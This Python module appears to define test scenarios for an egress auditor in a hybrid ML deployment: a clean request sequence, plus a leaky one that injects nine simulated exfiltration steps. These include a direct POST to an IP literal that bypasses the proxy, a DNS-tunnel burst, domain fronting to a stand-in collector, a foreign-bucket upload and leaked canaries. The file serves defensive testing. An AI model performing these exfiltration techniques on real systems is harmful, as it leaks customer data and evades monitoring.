"""The scenarios as data: each step is one request (or one DNS burst) by one actor.

`clean` is the call sequence of a real hybrid deployment: agent start (billing,
get_login, project lookup, invites, job polling), the SDK creating a project, a model
and a workflow, the agent handing the job to a worker (status PATCH), the node pulling
the worker image (ECR manifest, blobs redirected to the S3 layer bucket), the worker
reading training data from and writing artifacts to the customer's bucket, and log
lines that carry metadata only.

`leaky` is the same sequence with nine violations injected where they would happen.
Each injected step says what the auditor must find (`Expectation`), in the shared
vocabulary: sensor observations and classifier labels.
"""

from __future__ import annotations

from typing import Any, Literal

from pydantic import BaseModel, ConfigDict, Field

Actor = Literal["agent", "sdk", "worker", "node", "intruder"]
Scope = Literal["pod", "node"]
ACTOR_SCOPE: dict[str, Scope] = {"agent": "pod", "sdk": "pod", "worker": "pod", "node": "node", "intruder": "pod"}


class Expectation(BaseModel):
    """What the auditor must report for one injected violation, and which sensor sees it."""

    model_config = ConfigDict(extra="forbid", frozen=True)

    violation: str  # stable id of the injected violation
    description: str
    sensor: Literal["proxy", "probe"]
    observations: tuple[str, ...] = ()  # any of these in EgressEvent.observations
    labels: tuple[str, ...] = ()  # any of these in PayloadInfo.labels
    destination: str | None = None  # the destination rule decides: this host (and method below) is the violation
    method: str | None = None


class Step(BaseModel):
    """One request by one actor. Strings are templates over the scenario context (`{project_id}`)."""

    model_config = ConfigDict(extra="forbid", frozen=True)

    id: str
    actor: Actor
    kind: Literal["http", "dns-burst"] = "http"
    method: str = "GET"
    url: str = ""  # absolute URL template
    params: dict[str, str] = Field(default_factory=dict)
    headers: dict[str, str] = Field(default_factory=dict)
    json_body: Any = None  # a JSON template (strings inside are formatted)
    body: str | None = None  # a named payload from `auditor.sim.worker.BODIES`
    route: Literal["proxy", "direct"] = "proxy"  # "direct": skips the proxy even when one is given
    auth: tuple[str, str] | None = None  # HTTP Basic (registry)
    sigv4: bool = False  # sign like an AWS SDK (customer bucket)
    capture: dict[str, str] = Field(default_factory=dict)  # var -> dotted path into the JSON response
    verify_digest: str | None = None  # template of the sha256 digest the response body must have
    expect_status: tuple[int, ...] = (200,)
    # dns-burst
    count: int = 0
    parent: str = ""
    expect: Expectation | None = None  # set on injected violations only


def _agent_poll(suffix: str, capture: dict[str, str] | None = None) -> list[Step]:
    """The agent checks invites, then polls for a job (`receive_one`), as the real Poller does."""
    return [
        Step(id=f"agent-invites-{suffix}", actor="agent", url="https://{api}/users/me/invites",
             params={"invite_types": "project", "org_only": "true", "include_expired": "false"}),
        Step(id=f"agent-receive-one-{suffix}", actor="agent", method="POST", url="https://{api}/jobs/receive_one",
             params={"project_ids": "{project_id}", "org_only": "true", "runner_modes": "hybrid",
                     "cluster_guid": "{cluster_guid}"},
             capture=capture or {}),
    ]


def _status(step_id: str, status: str) -> Step:
    return Step(id=step_id, actor="worker", method="PATCH", url="https://{api}/projects/models",
                params={"uid": "{model_id}", "type": "train"}, headers={"Authorization": "{worker_key}"},
                json_body={"uid": "{model_id}", "status": status})


def _blob(step_id: str, digest_var: str) -> Step:
    var = "{" + digest_var + "}"
    return Step(id=step_id, actor="node", url="https://{registry}/v2/{repo}/blobs/" + var,
                auth=("{registry_user}", "{registry_password}"), verify_digest=var)


CLEAN: list[Step] = [
    # --- agent start ---
    Step(id="agent-billing", actor="agent", url="https://{api}/users/me/billing"),
    Step(id="agent-get-login", actor="agent", url="https://{api}/opt/containers/get_login",
         capture={"registry": "data.registry", "registry_user": "data.auth.username",
                  "registry_password": "data.auth.password"}),
    Step(id="agent-project", actor="agent", url="https://{api}/projects/{project_name}",
         capture={"project_id": "data.project._id"}),
    Step(id="agent-invites-start", actor="agent", url="https://{api}/users/me/invites",
         params={"invite_types": "project", "org_only": "true", "include_expired": "false"},
         capture={"invite_id": "data.invites.0._id"}),
    Step(id="agent-accept-invite", actor="agent", method="PATCH", url="https://{api}/users/me/invites/{invite_id}"),
    *_agent_poll("empty"),
    # --- the SDK (run by the user in the cluster) creates a hybrid project and a model ---
    Step(id="sdk-create-project", actor="sdk", method="POST", url="https://{api}/projects",
         json_body={"name": "{project_name}", "display_name": "{project_name}",
                    "description": "Synthetic census data for the fraud team", "runner_mode": "hybrid",
                    "cluster_guid": "{cluster_guid}"}),
    Step(id="sdk-invite-agent", actor="sdk", method="POST", url="https://{api}/projects/{project_id}/invites",
         json_body={"email": "{agent_email}", "level": 3}),
    Step(id="sdk-create-model", actor="sdk", method="POST", url="https://{api}/projects/{project_id}/models",
         params={"runner_mode": "hybrid"}, body="model-config", capture={"model_id": "data.model.uid"}),
    # --- the agent receives the job and marks it pending ---
    *_agent_poll("job", {"worker_token": "data.job.worker_token"}),
    _status("agent-status-pending", "pending"),
    # --- the node pulls the worker image named by get_login ---
    Step(id="node-registry-ping", actor="node", url="https://{registry}/v2/", expect_status=(401,)),
    Step(id="node-registry-auth", actor="node", url="https://{registry}/v2/",
         auth=("{registry_user}", "{registry_password}")),
    Step(id="node-manifest", actor="node", url="https://{registry}/v2/{repo}/manifests/{image_tag}",
         headers={"Accept": "application/vnd.docker.distribution.manifest.v2+json"},
         auth=("{registry_user}", "{registry_password}"),
         capture={"config_digest": "config.digest", "layer_digest": "layers.0.digest"}),
    _blob("node-config-blob", "config_digest"),
    _blob("node-layer-blob", "layer_digest"),
    # --- the worker trains: base model from artifacts, data from and results to the customer's bucket ---
    _status("worker-status-active", "active"),
    Step(id="worker-base-model-url", actor="worker", url="https://{artifacts}/base_models/actgan/v1/base.tar.gz",
         capture={"artifact_url": "data.url"}),
    Step(id="worker-base-model", actor="worker", url="{artifact_url}"),
    Step(id="worker-read-training-data", actor="worker",
         url="https://{customer_bucket_host}/sources/{project_name}/train.csv", sigv4=True),
    Step(id="worker-model-logs", actor="worker", method="POST", url="https://{api}/projects/models/logs",
         params={"uid": "{model_id}", "type": "train"}, headers={"Authorization": "{worker_key}"},
         body="model-logs"),
    Step(id="worker-write-model", actor="worker", method="PUT",
         url="https://{customer_bucket_host}/{project_id}/model/{model_id}/model.tar.gz", body="model-archive",
         sigv4=True),
    Step(id="worker-write-report", actor="worker", method="PUT",
         url="https://{customer_bucket_host}/{project_id}/model/{model_id}/report_json.json.gz", body="report-json",
         sigv4=True),
    _status("worker-status-completed", "completed"),
    # --- a workflow: connection (encrypted credentials), workflow, run, task logs ---
    Step(id="sdk-create-connection", actor="sdk", method="POST", url="https://{api}/v1/connections",
         body="connection", capture={"connection_id": "id"}),
    Step(id="sdk-create-workflow", actor="sdk", method="POST", url="https://{api}/v1/workflows",
         body="workflow", capture={"workflow_id": "id"}),
    Step(id="sdk-create-run", actor="sdk", method="POST", url="https://{api}/v1/workflows/runs",
         body="workflow-run", capture={"run_id": "id", "task_id": "actions.0.task_id"}),
    Step(id="worker-connection-credentials", actor="worker",
         url="https://{api}/v1/connections/{connection_id}/credentials", headers={"Authorization": "{api_key}"}),
    Step(id="worker-task-active", actor="worker", method="PATCH",
         url="https://{api}/v1/workflows/runs/{run_id}/tasks/{task_id}", headers={"Authorization": "{api_key}"},
         json_body={"status": "RUN_STATUS_ACTIVE", "action_name": "synthesize", "action_type": "actgan"}),
    Step(id="worker-log-upload-url", actor="worker",
         url="https://{api}/v1/logs/workflowruns/{run_id}/actions/synthesize/tasks/{task_id}",
         headers={"Authorization": "{api_key}"}, capture={"log_upload_url": "upload_url"}),
    Step(id="worker-task-logs", actor="worker", method="POST", url="{log_upload_url}", body="workflow-logs"),
    Step(id="worker-task-completed", actor="worker", method="PATCH",
         url="https://{api}/v1/workflows/runs/{run_id}/tasks/{task_id}", headers={"Authorization": "{api_key}"},
         json_body={"status": "RUN_STATUS_COMPLETED", "action_name": "synthesize", "action_type": "actgan",
                    "log_location": "{project_id}/run/{run_id}/logs.json.gz"}),
    Step(id="worker-run-completed", actor="worker", method="PATCH", url="https://{api}/v1/workflows/runs/{run_id}",
         headers={"Authorization": "{api_key}"}, json_body={"status": "RUN_STATUS_COMPLETED"}),
    *_agent_poll("idle"),
]


# --- the nine violations of the leaky scenario, each placed after the step it follows ---

LEAKS: list[tuple[str, Step]] = [
    ("agent-invites-job", Step(
        id="leak-canary-in-query", actor="agent", url="https://{api}/projects/{project_name}",
        params={"trace": "{canary}"}, expect=Expectation(
            violation="canary-in-query", sensor="proxy", labels=("canary",),
            description="A planted canary token leaves in the query string of an allowed API call."))),
    ("node-layer-blob", Step(
        id="leak-foreign-bucket-put", actor="node", method="PUT",
        url="https://{s3}/{foreign_bucket}/dumps/train.csv", body="training-csv", sigv4=True,
        expect=Expectation(
            violation="s3-foreign-bucket-put", sensor="proxy", destination="s3.amazonaws.com", method="PUT",
            description="An upload to somebody else's bucket through the allowed s3.amazonaws.com host."))),
    ("node-manifest", Step(
        id="leak-unnamed-registry-pull", actor="node", url="https://{other_registry}/v2/{repo}/manifests/{image_tag}",
        headers={"Accept": "application/vnd.docker.distribution.manifest.v2+json"}, expect=Expectation(
            violation="registry-not-named", sensor="proxy", observations=("registry-not-named",),
            description="A node pulls an image manifest from a registry the agent's get_login answer did not name."))),
    ("worker-read-training-data", Step(
        id="leak-direct-ip", actor="intruder", method="POST", url="https://{foreign_ip}/v1/collect",
        route="direct", json_body={"agent": "{cluster_guid}", "seq": 1}, expect=Expectation(
            violation="direct-ip-bypass", sensor="probe", observations=("bypass", "direct-ip"),
            description="A pod opens TLS straight to an IP literal, around the proxy."))),
    ("worker-model-logs", Step(
        id="leak-training-rows-in-log", actor="worker", method="POST", url="https://{api}/projects/models/logs",
        params={"uid": "{model_id}", "type": "train"}, headers={"Authorization": "{worker_key}"},
        body="model-logs-leaky", expect=Expectation(
            violation="training-rows-in-log", sensor="proxy", labels=("training-data", "fingerprint-match"),
            description="An exception message in a model log line carries training records."))),
    ("worker-write-report", Step(
        id="leak-model-archive-to-artifacts", actor="worker", method="PUT",
        url="https://{artifacts}/{project_id}/model/{model_id}/model.tar.gz", body="model-archive",
        expect=Expectation(
            violation="model-archive-to-gretel", sensor="proxy", labels=("model-artifact",),
            destination="artifacts.gretel.cloud", method="PUT",
            description="The trained model archive is uploaded to a Gretel host instead of the customer's bucket."))),
    ("worker-status-completed", Step(
        id="leak-dns-tunnel", actor="intruder", kind="dns-burst", count=40, parent="t.{foreign}",
        expect=Expectation(
            violation="dns-tunnel", sensor="probe", observations=("dns-tunnel",),
            description="Training data leaves as long high-entropy labels under one parent domain."))),
    ("sdk-create-connection", Step(
        id="leak-plaintext-credentials", actor="sdk", method="POST", url="https://{api}/v1/connections",
        body="connection-plaintext", capture={"leaked_connection_id": "id"}, expect=Expectation(
            violation="plaintext-credentials", sensor="proxy", labels=("plaintext-credentials",),
            description="A connection is created with `credentials` in the clear instead of `encrypted_credentials`."))),
    ("worker-task-active", Step(
        id="leak-domain-fronting", actor="intruder", method="POST", url="https://{api}/v1/collect",
        headers={"Host": "{foreign}"}, json_body={"agent": "{cluster_guid}", "seq": 2}, expect=Expectation(
            violation="sni-host-mismatch", sensor="proxy", observations=("sni-host-mismatch",),
            description="TLS names api.gretel.cloud while the Host header names collector.example.net (fronting)."))),
]


def _leaky() -> list[Step]:
    after: dict[str, list[Step]] = {}
    for anchor, step in LEAKS:
        after.setdefault(anchor, []).append(step)
    steps: list[Step] = []
    for step in CLEAN:
        steps.append(step)
        steps.extend(after.pop(step.id, []))
    if after:
        raise ValueError(f"leak anchors not in the clean scenario: {sorted(after)}")
    return steps


SCENARIOS: dict[str, list[Step]] = {"clean": CLEAN, "leaky": _leaky()}


def expectations(name: str) -> list[Expectation]:
    """What the auditor must find for scenario `name`: one entry per injected violation."""
    return [s.expect for s in SCENARIOS[name] if s.expect is not None]
